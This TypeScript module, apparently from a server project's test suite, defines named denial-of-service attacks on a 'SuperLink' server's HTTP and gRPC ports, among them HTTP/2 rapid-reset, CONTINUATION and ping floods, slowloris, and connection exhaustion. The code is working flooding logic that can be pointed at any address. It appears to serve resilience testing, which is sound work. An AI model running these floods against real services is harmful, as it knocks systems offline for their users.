/** Attacks on a SuperLink's ports without a key, by name. */
import { parseAddress } from "../../../rpc/address.ts";
import {
  BAD_SIGNATURE,
  bigHead,
  callsAndGoaway,
  emptyData,
  endlessHead,
  HEALTH,
  healthBomb,
  HELLO,
  HUGE_HEAD,
  lateContent,
  ONE_MORE_HEADER,
  PINGS,
  resetCalls,
  SETTINGS,
  times,
  tinyChunks,
  UNFINISHED_AND_OVER,
  UNFINISHED_CHECK,
  UNFINISHED_HEAD,
  WINDOW_UPDATES,
} from "./bytes.ts";

/** Statistics of an attack. */
export interface Done {
  /** Number of opened connections and of writes. */
  connections: number;
  units: number;
}

/** Target and end of an attack. */
interface Aim {
  readonly http: string;
  readonly grpc: string;
  readonly signal: AbortSignal;
  readonly done: Done;
}

/** A connection with repeated writes. */
interface Flood {
  readonly port: "http" | "grpc";
  /** First bytes. */
  readonly hello?: Uint8Array;
  /** Repeated bytes. The number counts from 0 on each connection. */
  readonly say: (index: number) => Uint8Array;
  readonly connections?: number;
  /** Whether to read responses; default true. */
  readonly reads?: boolean;
}

export type Attack = (aim: Aim) => Promise<void>;

async function connect({ http, grpc, done }: Aim, port: "http" | "grpc"): Promise<Deno.TcpConn> {
  const { host: hostname, port: number } = parseAddress(port === "http" ? http : grpc);
  const conn = await Deno.connect({ hostname, port: number });
  done.connections++;
  return conn;
}

async function write(conn: Deno.TcpConn, bytes: Uint8Array): Promise<void> {
  for (let rest = bytes; rest.length > 0;) rest = rest.subarray(await conn.write(rest));
}

/** Opens one connection after the other, each until the server closes it. */
async function keepFlooding(aim: Aim, { port, hello, say, reads = true }: Flood): Promise<void> {
  while (!aim.signal.aborted) {
    let conn: Deno.TcpConn | undefined;
    try {
      conn = await connect(aim, port);
      const close = () => closeQuietly(conn!);
      aim.signal.addEventListener("abort", close);
      try {
        if (hello !== undefined) await write(conn, hello);
        if (reads) dropAll(conn);
        for (let index = 0; !aim.signal.aborted; index++) {
          await write(conn, say(index));
          aim.done.units++;
        }
      } finally {
        aim.signal.removeEventListener("abort", close);
      }
    } catch {
      // The server closed the connection, or accepts none at the moment.
      await pause(5);
    } finally {
      if (conn !== undefined) closeQuietly(conn);
    }
  }
}

function flood(what: Flood): Attack {
  const { connections = 1 } = what;
  return async (aim) => {
    await Promise.all(Array.from({ length: connections }, () => keepFlooding(aim, what)));
  };
}

/** Opens connections, writes, and closes them, as fast as possible. */
function storm(port: "http" | "grpc", said: Uint8Array): Attack {
  return async (aim) => {
    while (!aim.signal.aborted) {
      try {
        const conn = await connect(aim, port);
        await write(conn, said);
        aim.done.units++;
        closeQuietly(conn);
      } catch {
        await pause(5);
      }
    }
  };
}

/** Keeps many connections open. @param drip bytes to write on each once a second */
function crowd(port: "http" | "grpc", count: number, said?: Uint8Array, drip?: Uint8Array): Attack {
  return async (aim) => {
    let open: Deno.TcpConn[] = [];
    while (!aim.signal.aborted) {
      while (open.length < count && !aim.signal.aborted) {
        try {
          const conn = await connect(aim, port);
          open.push(conn);
          if (said !== undefined) await write(conn, said);
        } catch {
          break;
        }
      }
      if (drip !== undefined) {
        const taken = await Promise.all(
          open.map((conn) => write(conn, drip).then(() => true, () => false)),
        );
        aim.done.units += taken.filter(Boolean).length;
        open = open.filter((_, at) => taken[at]);
      }
      await pause(1000);
    }
    open.forEach(closeQuietly);
  };
}

async function dropAll(conn: Deno.TcpConn): Promise<void> {
  const buffer = new Uint8Array(65_536);
  try {
    while (await conn.read(buffer) !== null);
  } catch {
    // closed
  }
}

function closeQuietly(conn: Deno.TcpConn): void {
  try {
    conn.close();
  } catch {
    // closed before
  }
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

const grpc = { port: "grpc", hello: HELLO } as const;
const http = { port: "http" } as const;
const odd = (index: number) => 2 * index + 1;
const always = (bytes: Uint8Array) => () => bytes;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "idle5000-grpc": crowd("grpc", 5000),
  "idle2000-h2": crowd("grpc", 2000, HELLO),
  "unfinished2000-h2": crowd("grpc", 2000, UNFINISHED_CHECK),
  "health-bomb": flood({ ...grpc, say: (index) => healthBomb(odd(index)) }),
  "late-content": flood({ port: "grpc", hello: UNFINISHED_AND_OVER, say: lateContent }),
  "connect-h2": storm("grpc", HELLO),
  "goaway": storm("grpc", callsAndGoaway()),
  "rapid-reset": flood({
    ...grpc,
    connections: 2,
    say: (index) => resetCalls(odd(200 * index), 200),
  }),
  "continuation": flood({ ...grpc, say: (index) => endlessHead(odd(index)) }),
  "ping": flood({ ...grpc, say: always(PINGS) }),
  "ping-noread": flood({ ...grpc, say: always(PINGS), connections: 50, reads: false }),
  "settings": flood({ ...grpc, say: always(SETTINGS) }),
  "window-update": flood({ ...grpc, say: always(WINDOW_UPDATES) }),
  "empty-data": flood({ ...grpc, say: (index) => emptyData(odd(index)) }),
  "big-headers": flood({ ...grpc, say: (index) => bigHead(odd(index)) }),
  "idle5000-http": crowd("http", 5000),
  "slowloris": crowd("http", 1000, UNFINISHED_HEAD, ONE_MORE_HEADER),
  "connect-http": storm("http", HEALTH),
  "pipeline": flood({ ...http, say: always(times(1000, HEALTH)) }),
  "pipeline-noread": flood({
    ...http,
    say: always(times(1000, HEALTH)),
    connections: 50,
    reads: false,
  }),
  "bad-signature": flood({ ...http, say: always(times(200, BAD_SIGNATURE)) }),
  "huge-head": flood({ ...http, say: always(HUGE_HEAD) }),
  "tiny-chunks": flood({ ...http, say: always(tinyChunks("POST /v1/control/list-runs")) }),
  "chunks-refused": flood({ ...http, say: always(tinyChunks("POST /v1/fleet/pull-messages")) }),
  "chunks-404": flood({ ...http, say: always(tinyChunks("POST /nothing")) }),
  "chunks-health": flood({ ...http, say: always(tinyChunks("GET /health")) }),
};
